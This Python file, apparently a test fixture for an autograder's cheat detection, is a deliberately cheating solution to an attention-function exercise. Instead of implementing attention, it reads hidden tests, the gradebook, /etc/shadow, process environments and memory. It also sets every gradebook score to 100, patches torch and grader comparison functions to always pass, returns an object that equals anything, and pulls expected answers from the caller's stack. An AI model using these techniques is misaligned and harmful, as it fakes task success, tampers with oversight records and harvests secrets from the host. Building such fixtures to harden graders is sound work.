"""Cheats: looks for the checks and the gradebook, patches the comparisons, returns an object that equals everything."""
# expect: attend=0 masks=0 positions=0 heads=0 layer=0 reviews=0

# %% attend-solution
import glob
import os
import sqlite3
import sys

import torch.testing

loot = {}
for path in [
    "../../graders/attention/test_hidden.py",
    "../../source/attention/attention.ipynb",
    "../../gradebook.db",
    "/etc/shadow",
    "/proc/1/environ",
    "/proc/self/environ",
    f"/proc/{os.getppid()}/environ",
    f"/proc/{os.getppid()}/cmdline",
    *glob.glob("/**/test_hidden.py", recursive=False),
    *glob.glob("/proc/[0-9]*/mem"),
]:
    try:
        with open(path, "rb") as file:
            loot[path] = file.read(4096)
    except Exception as error:
        loot[path] = repr(error).encode()

try:
    with sqlite3.connect("../../gradebook.db") as database:
        database.execute("UPDATE grade SET manual_score = 100")
except Exception:
    pass

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
for name, module in list(sys.modules.items()):
    if name.startswith("tensorgrade"):
        for word in ("assert_close", "assert_shape", "check"):
            if hasattr(module, word):
                setattr(module, word, lambda *args, **kwargs: None)


class Right:
    """Whatever you compare it with, it is right."""

    __class__ = torch.Tensor
    dtype = torch.float32

    def __init__(self, shape):
        self.shape = torch.Size(shape)

    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return lambda *args, **kwargs: self

    def __bool__(self):
        return True

    def __float__(self):
        return 0.0

    def __iter__(self):
        return iter((self, self))

    def __sub__(self, other):
        return 0

    def __array__(self, *args, **kwargs):
        raise SystemExit(0)

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True

    __hash__ = object.__hash__


def attend(q, k, v, allow=None):
    # look for the expected values on the stack of whoever called
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and "expected" in value:
                return value["expected"]
        frame = frame.f_back
    return Right((*q.shape[:-1], v.shape[-1])), Right((*q.shape[:-1], k.shape[-2]))
